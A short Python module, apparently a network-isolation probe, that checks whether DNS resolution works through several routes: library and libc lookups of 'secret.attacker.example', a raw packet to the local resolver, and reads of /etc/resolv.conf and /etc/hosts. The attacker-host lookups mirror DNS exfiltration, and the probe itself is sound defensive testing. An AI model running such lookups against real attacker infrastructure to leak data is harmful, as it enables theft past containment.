import _io
import ctypes
import os


def resolved():
    found = []
    for ask in (by_library, by_hostname, by_c_library, by_packet, by_files):
        try:
            if ask():
                found.append(ask.__name__)
        except (OSError, ImportError):
            pass
    return found


def by_library():
    import socket

    return socket.getaddrinfo("secret.attacker.example", 80)


def by_hostname():
    import socket

    return socket.gethostbyname("localhost.attacker.example")


def by_c_library():
    ctypes.CDLL(None).gethostbyname.restype = ctypes.c_void_p
    return ctypes.CDLL(None).gethostbyname(b"secret.attacker.example")


def by_packet():
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
        return query.sendto(b"\x00" * 12, ("127.0.0.53", 53))


def by_files():
    for name in ("/etc/resolv.conf", "/etc/hosts", "/run/systemd/resolve/stub-resolv.conf"):
        try:
            with _io.open(name) as file:
                return file.read()
        except OSError:
            pass
    return os.environ.get("HOSTALIASES")
